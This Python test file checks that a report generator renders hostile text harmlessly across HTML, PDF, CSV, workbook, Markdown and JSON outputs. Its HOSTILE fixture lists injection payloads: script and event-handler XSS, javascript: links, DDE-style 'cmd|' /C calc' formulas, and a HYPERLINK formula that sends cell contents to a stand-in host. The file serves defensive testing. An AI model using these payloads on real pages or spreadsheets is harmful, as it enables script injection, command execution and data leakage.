"""Text of the data is shown as text: in every form of a report, in every place that takes any."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import html5lib
import openpyxl
import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from analysis.reports import blocks, files, html, markdown_page, pdf, workbook
from analysis.reports.document import Document, Provenance, tables
from analysis.reports.finding import Finding
from analysis.reports.formulas import STARTS, harmless
from analysis.reports.printed_text import legible
from analysis.reports.tables import Column, Table, csv_text
from tests.reports.executed import RATE, document, drawing, ran, text
from tests.reports.pdf_reader import Paper

HOSTILE = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "end of style": "</style></title></svg></textarea>--><!-- ]]> <![CDATA[ &lt;b&gt; &amp;",
    "attribute": '" onmouseover="alert(1)" \'><b>x</b>',
    "typst": '#import "x": * #panic() #eval("1") @ref <label> // c /* d */ = h ~ -- {y}',
    "formula of TeX": r"$x^2$ $$\int$$ \alpha \ \\ \n \u0041",
    "turned around": "launched \u202e21 \u2067and \u202bno end",
    "ends too many": "a\u202c b\u2069 c\u202e d",
    "spreadsheet": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "spreadsheet, behind a blank": " =1+1",
    "spreadsheet, wide": "＝1+1",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "controls": "a\x00b\x01c\x08d\x0be\x1bf\x7fg\x85h\ufffei\ufdd0j",
    "half a letter": "a\ud800b\udfffc",
    "lines": "first\r\nsecond\rthird\nfourth\tfifth",
    "Jinja": "{{7*7}} {% raw %} {# no #} {0} {name} %s %(x)s ${x}",
    "link": "[x](javascript:alert(1)) [y]: http://x <http://x.example> https://x.example www.x.eu",
    "picture": "![](http://x.example/p.png) ![a][b] <svg/onload=alert(1)>",
    "backticks": "` `` ``` ~~~ `code` ```\n# no heading\n```",
    "marks of markdown": "# h\n> q\n- l\n1. n\n* * *\n===\n| a | b |\n|---|---|\n**b** _e_ ~~s~~",
    "number of a list": "1. one",
    "rule": "---",
    "workbook": "_x0041_ ' & < > \"",
}
LONG = "=" + "".join(f"{number:06d} " for number in range(14_600))  # 102 kB
WRITERS = ("html", "pdf", "csv", "xlsx", "md", "json")


def everywhere(said: str, cell: str | None = None) -> Document:
    """A document that holds a text in every place that takes one."""
    one = (blocks.Text(said),)
    both = (blocks.Text(said), blocks.Strong(one), blocks.CodeSpan(said), blocks.Emphasis(one))
    columns = (("a", Column(said or "a")), ("b", Column("n", "count")), ("c", Column("d", "date")))
    rows = ((cell or said, 1, said), ("x", None, "2025-08-28"))
    table = Table("hostile", ("a", "b", "c"), rows, (*columns[:2], ("c", Column("d"))))
    (figure,) = (
        part
        for part in document(text("## A"), ran(drawing("trend"))).sections[0].blocks
        if isinstance(part, blocks.FigureBlock)
    )
    own = Table("trend", (said, "y"), ((said, 2.5),), ((said, Column(said)), ("y", Column("y"))))
    paragraph = blocks.Paragraph(both)
    section = blocks.Section(
        2,
        "a",
        one,
        (
            blocks.Prose((paragraph, blocks.Listing(((paragraph,), (paragraph, paragraph))))),
            blocks.BlockQuote((paragraph,)),
            blocks.Callout("note", (paragraph,)),
            blocks.ProseTable((both, one), ((both, one),)),
            blocks.Preformatted(said),
            blocks.TableBlock(1, "hostile", one, one, table),
            replace(figure, caption=one, note=one, alt=said, table=own),
        ),
    )
    findings = (
        replace(RATE, note=said, source=said, of=said),
        Finding("none", None, unit="rate", reason=said),
    )
    source = Provenance(
        vintage="2026-06-07",
        parameters=(("events", said),),
        changed=("events",),
        code=(("notebook", said),),
        packages=(("p", said),),
    )
    return Document(
        "report",
        one,
        answer=(blocks.Prose((paragraph,)),),
        lead=(blocks.Prose((paragraph,)),),
        sections=(section,),
        findings=findings,
        warnings=(said,),
        provenance=source,
    )


def folded(said: str) -> str:
    """Words as they are compared: what has no shape is a mark, blanks are one blank, no turns."""
    without = re.sub("[\u202a-\u202e\u2066-\u2069]", "", legible(said))
    return re.sub(r"\s+", " ", without).strip()


@pytest.fixture(params=[*HOSTILE], ids=lambda name: str(name).replace(" ", "-"))
def said(request: pytest.FixtureRequest) -> str:
    return HOSTILE[request.param]


def test_a_page_shows_it_as_text(said: str) -> None:
    page = html.render(everywhere(said))
    tree = html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(page)
    tags = {str(element.tag) for element in tree.iter() if isinstance(element.tag, str)}
    assert not {"script", "img", "iframe", "object", "textarea", "b", "i"} & tags
    for element in tree.iter():
        assert not [name for name in element.attrib if str(name).startswith("on")]
        href = str(element.attrib.get("href", ""))
        assert not re.match(r"(?i)\s*(javascript|vbscript|file|http)", href)
    shown = folded("".join(tree.itertext()))
    assert shown.count(folded(said)) >= 20


def test_a_pdf_shows_it_as_text(said: str, tmp_path: Path) -> None:
    content = pdf.render(everywhere(said))
    assert Paper(content).texts("URI") == []
    reader = shutil.which("pdftotext")
    if reader is None:
        return  # the rest is looked at where poppler is
    (tmp_path / "report.pdf").write_bytes(content)
    command = [reader, "-raw", "-enc", "UTF-8", str(tmp_path / "report.pdf"), "-"]
    shown = subprocess.run(command, capture_output=True, check=True).stdout.decode()
    # Where a line ends is the typesetter's: letters are compared, not blanks.
    letters = re.sub(r"\s|[\u200e\u200f\u202a-\u202e\u2066-\u2069]", "", shown)
    wanted = re.sub(r"\s", "", folded(said)).replace("\u200b", "")
    if not re.search("[\u202a-\u202e\u2066-\u2069]", said):  # turned letters come out turned
        assert letters.count(wanted) >= 8


def test_a_csv_holds_it_as_text_and_never_as_a_formula(said: str) -> None:
    for table in tables(everywhere(said)).values():
        rows = list(csv.reader(io.StringIO(csv_text(harmless(table)), newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.lstrip().startswith(STARTS)]
        assert {legible(said), f"'{legible(said)}"} & set(cells)


def test_a_workbook_holds_it_as_text_and_never_as_a_formula_or_link(said: str) -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook.render(everywhere(said))))
    found = False
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type in "sndb", (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert sheet is book.worksheets[0] or not cell.value.startswith(STARTS)
                    found |= cell.value in (legible(said), f"'{legible(said)}")
                if cell.hyperlink is not None:
                    assert cell.hyperlink.target is None
                    assert str(cell.hyperlink.location).startswith("'")
    assert found


def flat(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from flat(token.children or [])


def test_markdown_shows_it_as_text(said: str) -> None:
    tokens = (
        MarkdownIt("commonmark", {"html": True})
        .enable(["table", "strikethrough"])
        .parse(markdown_page.render(everywhere(said)))
    )
    shown: list[str] = []
    for token in flat(tokens):
        if token.type in ("html_inline", "html_block"):
            assert re.fullmatch(
                r'<a id="[\w-]+">|</a>|<br>|<a id="[\w-]+"></a>', token.content.strip()
            )
        if token.type == "link_open":
            assert re.match(r"#|tables/\w+\.csv$|\w+\.(json|ipynb)$", str(token.attrs["href"]))
        if token.type == "image":
            assert token.attrs["src"] == "figures/trend.svg"
        assert token.type not in ("hr", "s_open", "code_block")
        if token.type in ("text", "code_inline", "fence"):
            shown.append(token.content)
        elif token.type in ("paragraph_close", "th_close", "td_close", "heading_close"):
            shown.append("\n")
    kinds = [token.type for token in tokens]
    assert kinds.count("heading_open") == 9
    assert kinds.count("table_open") == 3  # in the text, of the data, of the findings
    assert folded("".join(shown)).count(folded(said)) >= 20


def test_markdown_begins_no_link_of_its_own_dialects() -> None:
    written = markdown_page.text("http://x.eu https://x.eu ftp://x.eu www.x.eu HTTP://x")
    assert not re.search(r"(?i)(http|https|ftp)://|www\.", written)


def test_findings_and_provenance_are_read_back_as_they_were(said: str, tmp_path: Path) -> None:
    files._write_json(tmp_path / "a.json", {"said": said})
    read = json.loads((tmp_path / "a.json").read_text("utf-8"))
    assert read == {"said": re.sub("[\ud800-\udfff]", "\ufffd", said)}


WRITTEN: dict[str, Any] = {
    "html": lambda made: html.render(made),
    "md": lambda made: markdown_page.render(made),
    "csv": lambda made: csv_text(harmless(tables(made)["hostile"])),
}


@pytest.mark.parametrize("form", [*WRITTEN])
def test_a_cell_of_a_hundred_kilobytes_is_shown_whole(form: str) -> None:
    assert LONG.removeprefix("=").strip() in WRITTEN[form](everywhere("x", cell=LONG))


def test_a_cell_too_long_for_a_workbook_is_cut_and_says_so() -> None:
    book = openpyxl.load_workbook(io.BytesIO(workbook.render(everywhere("x", cell=LONG))))
    cell = book["hostile"]["A2"].value
    assert len(cell) == workbook.CELL_LIMIT
    assert cell.startswith("'=000000 000001")
    assert cell.endswith(
        "… (cut: a workbook takes 32,767 characters a cell; tables/hostile.csv has all)"
    )


@pytest.mark.parametrize("turn", ["\u202e", "\u202b", "\u2067"])
def test_a_turn_of_direction_ends_with_the_text_that_began_it(turn: str) -> None:
    end = "\u2069" if turn == "\u2067" else "\u202c"
    title = (blocks.Text(f"a {turn}b"), blocks.Strong((blocks.Text("after"),)))
    page = html.render(Document("report", title))
    assert f"<h1>a {turn}b{end}<strong>after</strong></h1>" in page
    written = markdown_page.render(Document("report", title))
    assert f"# a &#x{ord(turn):X};b&#x{ord(end):X};**after**" in written
